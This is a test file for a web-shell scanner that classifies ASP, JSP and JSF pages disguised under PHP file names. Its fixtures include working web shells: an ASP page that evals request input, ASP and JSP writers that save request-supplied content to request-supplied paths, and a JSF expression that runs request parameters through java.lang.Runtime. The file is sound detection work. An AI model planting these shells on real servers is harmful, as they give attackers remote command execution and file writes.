/**
 * Another server's page saved under a PHP name (issue 27): PHP sends it as text, so only its
 * own language's rules can say what it does. Ranked high, never critical, and only when no
 * PHP code is in the file.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { foreignPage } from '../../src/findings/web-shell/foreign-page.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const judge = (path: string, text: string) =>
  judgeWebShell(addedFile(path, text, { current: fileMeta({ sizeBytes: text.length }) }), true);

const ASP_EVAL = '<%\ndim x\nx = request("h")\neval x\n%>\n<html><body>ok</body></html>';
const ASP_WRITER = [
  '<%@ Language=VBScript %>',
  '<%',
  'set fso = Server.CreateObject("Scripting.FileSystemObject")',
  'set f = fso.CreateTextFile(Request.Form("path"), true)',
  'f.Write Request.Form("body")',
  'f.Close',
  'Response.Write "<?xml version=""1.0"" ?>"',
  '%>',
].join('\n');
const JSP_WRITER = [
  '<%@ page import="java.io.*" %>',
  '<%',
  'FileOutputStream o = new FileOutputStream(request.getParameter("f"));',
  'o.write(request.getParameter("c").getBytes());',
  'o.close();',
  '%>',
].join('\n');

describe('a page of another language under a PHP name', () => {
  it.each([
    ['classic ASP evaluating a request field', 'x.php', ASP_EVAL, 'classic ASP page'],
    [
      'an ASP file writer that writes an XML declaration',
      'up.php5',
      ASP_WRITER,
      'classic ASP page',
    ],
  ])('%s is judged by its own rules, high', (_, name, text, label) => {
    const hit = judge(`/var/www/html/${name}`, text);
    expect(hit?.severity).toBe('high');
    expect(hit?.reason).toContain(`(a ${label} under a PHP name: PHP sends it as text)`);
    // The same text under its own name is the critical finding it always was.
    const own = foreignPage(name, text)!.name;
    expect(judge(`/var/www/html/${own}`, text)?.severity).toBe('critical');
  });

  it('tells JSP and ASP.NET pages by their directives and objects', () => {
    expect(foreignPage('c.phtml', JSP_WRITER)?.name).toBe('c.jsp');
    const vb =
      '<%@ Page Language="VB" %>\n<script runat="server">Sub Page_Load()\nEnd Sub</script>';
    expect(foreignPage('v.php', vb)?.name).toBe('v.aspx');
  });

  it('leaves a file with PHP code in it to the PHP rules', () => {
    const text = `<?php echo date('Y'); ?>\n${ASP_EVAL}`;
    expect(foreignPage('x.php', text)).toBeUndefined();
    expect(judge('/var/www/html/x.php', text)?.reason ?? '').not.toContain('under a PHP name');
  });

  it('leaves includes alone: ASP and ASP.NET name theirs .inc', () => {
    expect(foreignPage('header.inc', ASP_EVAL)).toBeUndefined();
  });

  it('ranks nothing for a harmless ASP page under a PHP name', () => {
    const text =
      '<%@ Language=VBScript %>\n<% Response.Write "Hello " & Server.HTMLEncode(Request.QueryString("n")) %>';
    expect(foreignPage('hello.php', text)?.label).toBe('classic ASP page');
    const hit = judge('/var/www/html/hello.php', text);
    expect(['high', 'critical']).not.toContain(hit?.severity);
  });

  it('takes markup with `<%` and none of a server language for no page', () => {
    expect(foreignPage('t.php', '<p>50<% off</p>')).toBeUndefined();
  });

  // A JSF (Facelets) page whose expression loads java.lang.Runtime by name: an EL shell.
  const FACELETS_SHELL = [
    '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://xmlns.jcp.org/jsf/html">',
    '<body>',
    '#{view.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("exec", "".getClass())',
    '.invoke(view.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime")',
    '.invoke(null), request.getParameter("do"))}',
    '</body></html>',
  ].join('\n');

  it('reads a JSF (Facelets) page as Java, under a PHP name and under its own', () => {
    expect(foreignPage('/var/www/html/f.php', FACELETS_SHELL)).toEqual({
      name: '/var/www/html/f.jsp',
      label: 'JSF (Facelets) page',
    });
    expect(judge('/var/www/html/f.php', FACELETS_SHELL)?.severity).toBe('high');
    expect(judge('/opt/app/webapp/admin.xhtml', FACELETS_SHELL)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/run by name\) \(a JSF Facelets page\)$/),
    });
  });

  it("leaves a Facelets page of an application's own alone", () => {
    const form = [
      '<ui:composition xmlns:ui="http://java.sun.com/jsf/facelets" xmlns:h="http://java.sun.com/jsf/html">',
      '<h:form><h:inputText value="#{orderBean.quantity}"/>',
      '<h:outputText value="#{request.getParameter(\'id\')}"/>',
      '<h:commandButton action="#{orderBean.save}" value="Save"/></h:form>',
      '</ui:composition>',
    ].join('\n');
    expect(judge('/opt/app/webapp/order.xhtml', form)?.severity ?? 'none').toMatch(/none|low|info/);
    // XHTML that is no JSF page is the browser's.
    expect(
      judge('/var/www/html/a.xhtml', FACELETS_SHELL.replace(/xmlns:h="[^"]*"/, '')),
    ).toBeUndefined();
  });
});
